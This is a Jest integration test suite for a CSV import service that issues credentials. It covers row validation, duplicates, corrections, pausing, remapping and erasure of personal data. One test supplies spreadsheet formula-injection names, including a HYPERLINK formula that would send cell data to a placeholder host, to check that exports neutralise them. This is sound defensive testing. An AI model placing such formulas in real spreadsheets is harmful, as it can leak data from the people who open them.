import { RowRuns } from '@app/imports/src/rows/row-runs';
import { randomUUID } from 'node:crypto';
import { setTimeout as delay } from 'node:timers/promises';
import { answered, get, type Json, postJson, send } from '../support/http/requests';
import { publishedTemplate } from '../support/portal/portal';
import { contentOf } from '../support/wallets/credentials';
import { openSession, receive } from '../support/wallets/wallet';
import { type RunningService, startService } from '../support/service/service';
import { startedImport, until, uploaded } from '../support/portal/imports';

let service: RunningService;
let url: string;
beforeAll(async () => {
  service = await startService();
  ({ url } = service);
});
afterAll(() => service.stop());

const schema = {
  type: 'object',
  properties: {
    given_name: { type: 'string', title: 'Vorname' },
    birthdate: { type: 'string', format: 'date', title: 'Geburtsdatum' },
    level: { type: 'integer' },
  },
  required: ['given_name'],
};

async function rowsOf(importId: string, state = ''): Promise<Json[]> {
  const filter = state === '' ? '' : `&state=${state}`;
  return answered(200, await get(`${url}/v0/imports/${importId}/rows?limit=200${filter}`))['items'] as Json[];
}

describe('An import', () => {
  it('offers a credential for each row that is ready, once somebody has started it', async () => {
    const templateId = await publishedTemplate(url, { schema });
    const file = 'Vorname;level;Reference\nErika;1;imp/1\n;2;imp/2\nMax;drei;imp/3\nMoritz;4;imp/4\nErika;1;IMP/1\n';
    const importId = await uploaded(url, templateId, file);
    const checked = await until(url, importId, 'Checked');
    expect(checked['readAs']).toBe('UTF-8, separated by semicolons');
    expect(checked['totals']).toMatchObject({ rows: 5, ready: 2, faulty: 2, duplicate: 1, created: 0 });
    const faulty = await rowsOf(importId, 'faulty');
    expect(faulty.map(({ row, faults }) => [row, (faults as Json[]).map(({ message }) => message)])).toEqual([
      [3, ['Row 3, column “Vorname”: is required']],
      [4, ['Row 4, column “level”: must be a number such as 1234.5, without separators of thousands']],
    ]);
    expect((await rowsOf(importId, 'duplicate'))[0]).toMatchObject({ row: 6, sameAs: 2 });
    expect(answered(200, await postJson(`${url}/v0/searches`, { reference: 'imp/1' }))['items']).toEqual([]);

    answered(200, await postJson(`${url}/v0/imports/${importId}/start`, ''));
    const done = await until(url, importId, 'Done');
    expect(done['totals']).toMatchObject({ created: 2, ready: 0, faulty: 2, duplicate: 1 });
    const found = answered(200, await postJson(`${url}/v0/searches`, { reference: 'imp/4' }))['items'] as Json[];
    expect(found).toMatchObject([{ status: 'Prepared', templateId }]);
    const { text: result } = await get(`${url}/v0/imports/${importId}/result.csv`);
    const lines = result.replace('\ufeff', '').split('\r\n');
    expect(lines[0]).toBe('Row,Reference,State,Reason,Offer,Mail,Link');
    expect(lines[1]).toMatch(/^2,imp\/1,created,,Open,,http.*\/o\//);
    expect(lines[2]).toBe('3,imp/2,faulty,"Row 3, column “Vorname”: is required",,,');
    expect(lines[5]).toBe('6,IMP/1,duplicate,The same as row 2,,,');
  });

  it('takes cells that begin like formulas for texts, and gives spreadsheets none to calculate', async () => {
    const templateId = await publishedTemplate(url, { schema });
    const names = ['=1+1', '+49', '-5', '@SUM(A1)', '=HYPERLINK("https://x.example?"&A1;"Erika")'];
    const lines = names.map((name) => `"${name.replaceAll('"', '""')}","${name[0]}ref-${name.length}"`);
    const importId = await startedImport(url, templateId, `Vorname,Reference\n${lines.join('\n')}\n,@none\n`);
    await until(url, importId, 'Done');
    const created = await rowsOf(importId, 'created');
    const claims = created.map(async ({ credentialId }) => {
      const { credentialOffer } = answered(200, await get(`${url}/v0/offers/${String(credentialId)}`));
      const [credential = ''] = await receive(String(credentialOffer));
      return contentOf(credential).claims['given_name'];
    });
    expect(await Promise.all(claims)).toEqual(names);
    const separators = { comma: ',', semicolon: ';', tab: '\t' };
    for (const [name, separator] of Object.entries(separators)) {
      const { text: result } = await get(`${url}/v0/imports/${importId}/result.csv?separator=${name}`);
      const cells = result
        .trimEnd()
        .split('\r\n')
        .slice(1)
        .flatMap((line) => line.split(separator))
        .map((cell) => cell.replace(/^"/, ''));
      expect(cells).toEqual(expect.arrayContaining(["'=ref-4", "'+ref-3", "'-ref-2", "'@ref-8", "'@none"]));
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    }
  });

  it('knows the rows of the same file that were offered, and those that wallets have', async () => {
    const templateId = await publishedTemplate(url, { schema });
    const [one, two] = [randomUUID(), randomUUID()];
    const file = `Vorname,Reference\nErika,${one}\nMax,${two}\n`;
    const importId = await startedImport(url, templateId, file);
    await until(url, importId, 'Done');
    const [{ credentialId = '' } = {}] = await rowsOf(importId, 'created');
    const { credentialOffer } = answered(200, await get(`${url}/v0/offers/${String(credentialId)}`));
    await receive(String(credentialOffer));
    const again = await uploaded(url, templateId, file);
    const { totals } = await until(url, again, 'Checked');
    expect(totals).toMatchObject({ ready: 0, 'already-issued': 1, 'already-offered': 1 });
    await openSession(String(credentialOffer)).catch(() => undefined);
  });

  it('lets one of two people correct a row, and offers it then', async () => {
    const templateId = await publishedTemplate(url, { schema });
    const importId = await uploaded(url, templateId, 'Vorname;Geburtsdatum\nErika;31.12.1990\n');
    await until(url, importId, 'Checked');
    const [{ etag = '', faults = [] } = {}] = await rowsOf(importId, 'faulty');
    expect(faults).toMatchObject([
      { column: 2, message: 'Row 2, column “Geburtsdatum”: must be a date such as 2026-12-31' },
    ]);
    const correct = (value: string) =>
      send(`${url}/v0/imports/${importId}/rows/2`, {
        method: 'PATCH',
        headers: { 'content-type': 'application/json', 'if-match': String(etag) },
        body: JSON.stringify({ values: [{ column: 2, value }] }),
      });
    expect(answered(200, await correct('1990-12-31'))).toMatchObject({
      state: 'ready',
      values: ['Erika', '1990-12-31'],
    });
    expect((await correct('1991-12-31')).status).toBe(412);
  });

  it('corrects no row that is being offered while it is paused', async () => {
    const templateId = await publishedTemplate(url, { schema });
    const runs = service.app.get(RowRuns);
    const run = runs.run.bind(runs);
    let release = (): void => undefined;
    const reached = new Promise<void>((reach) => {
      jest.spyOn(runs, 'run').mockImplementationOnce(async (rows, plan) => {
        await new Promise<void>((go) => {
          release = go;
          reach();
        });
        return run(rows, plan);
      });
    });
    const importId = await startedImport(url, templateId, 'Vorname,Reference\nErika,held-1\n');
    await reached;
    answered(200, await postJson(`${url}/v0/imports/${importId}/pause`, ''));
    const corrected = send(`${url}/v0/imports/${importId}/rows/2`, {
      method: 'PATCH',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ values: [{ column: 2, value: 'held-2' }] }),
    });
    await Promise.race([corrected, delay(500)]);
    release();
    const { status, json } = await corrected;
    expect([status, json['detail']]).toEqual([409, 'Row 2 has been offered already.']);
    answered(200, await postJson(`${url}/v0/imports/${importId}/resume`, ''));
    await until(url, importId, 'Done');
    expect((await rowsOf(importId, 'created'))[0]).toMatchObject({ reference: 'held-1' });
  });

  it('checks the rows again by other columns, and by another content of the template', async () => {
    const templateId = await publishedTemplate(url, { schema });
    const importId = await uploaded(url, templateId, 'Who;When\nErika;31.12.1990\n');
    expect((await until(url, importId, 'Checked'))['totals']).toMatchObject({ faulty: 1 });
    const columns = [
      { column: 1, to: '/given_name' },
      { column: 2, to: '/birthdate' },
    ];
    const put = { method: 'PUT', headers: { 'content-type': 'application/json' } };
    const mapped = { ...put, body: JSON.stringify({ columns, locale: 'de' }) };
    answered(200, await send(`${url}/v0/imports/${importId}/mapping`, mapped));
    expect((await until(url, importId, 'Checked'))['totals']).toMatchObject({ ready: 1 });
    const changed = { ...schema, required: ['given_name', 'level'] };
    const patch = { method: 'PATCH', headers: put.headers, body: JSON.stringify({ schema: changed }) };
    answered(200, await send(`${url}/v0/templates/${templateId}`, patch));
    expect((await postJson(`${url}/v0/imports/${importId}/start`, '')).status).toBe(409);
    expect((await until(url, importId, 'Checked'))['totals']).toMatchObject({ faulty: 1, created: 0 });
  });

  it('keeps nothing of a person whose credential is erased', async () => {
    const templateId = await publishedTemplate(url, { schema });
    const importId = await startedImport(url, templateId, 'Vorname,Reference\nErika,gone-1\nErika,Gone-1\nMax,b\n');
    await until(url, importId, 'Done');
    const [row = {}] = await rowsOf(importId, 'created');
    expect(row).toMatchObject({ values: [], reference: 'gone-1' });
    const erased = `${url}/v0/credentials/${String(row['credentialId'])}/personal_data`;
    answered(204, await send(erased, { method: 'DELETE' }));
    expect((await rowsOf(importId, 'created'))[0]).not.toHaveProperty('reference');
    // Nor in a row that said the same.
    expect(await rowsOf(importId, 'duplicate')).toEqual([expect.objectContaining({ sameAs: 2, values: [] })]);
    expect((await get(`${url}/v0/imports/${importId}/result.csv`)).text).not.toMatch(/gone-1/i);
  });

  it('takes a form, and says of a file that it cannot read why', async () => {
    const templateId = await publishedTemplate(url, { schema });
    const parts = [
      '--b\r\nContent-Disposition: form-data; name="templateId"\r\n\r\n' + templateId,
      '--b\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nVorname\r\n"Erika',
      '--b--\r\n',
    ];
    const headers = { 'content-type': 'multipart/form-data; boundary=b' };
    const sent = { method: 'POST', headers, body: Buffer.from(parts.join('\r\n')) };
    const { importId } = answered(202, await send(`${url}/v0/imports`, sent));
    expect(await until(url, String(importId), 'Failed')).toMatchObject({
      reason: 'A quotation mark at the beginning of a cell has no other one at its end.',
    });
  });

  it('ends when somebody says so, and what was offered stays', async () => {
    const templateId = await publishedTemplate(url, { schema });
    const importId = await uploaded(url, templateId, 'Vorname\nErika\n');
    await until(url, importId, 'Checked');
    answered(200, await postJson(`${url}/v0/imports/${importId}/cancel`, ''));
    expect((await postJson(`${url}/v0/imports/${importId}/start`, '')).status).toBe(409);
    expect((await postJson(`${url}/v0/imports/${importId}/pause`, '')).status).toBe(409);
  });
});
